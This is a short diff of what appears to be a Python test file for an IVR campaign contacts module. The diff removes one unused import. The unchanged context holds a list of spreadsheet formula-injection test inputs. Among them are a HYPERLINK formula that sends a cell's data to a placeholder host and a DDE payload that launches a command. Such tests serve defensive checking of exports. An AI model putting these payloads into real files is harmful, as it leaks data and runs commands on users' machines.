@@ -18,7 +18,6 @@ from ivr.api.app import build_app
 from ivr.api.services import Services
 from ivr.campaigns.service import CampaignService
 from ivr.campaigns import contacts
-from ivr.app.config import from_mapping
 
 HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1"]
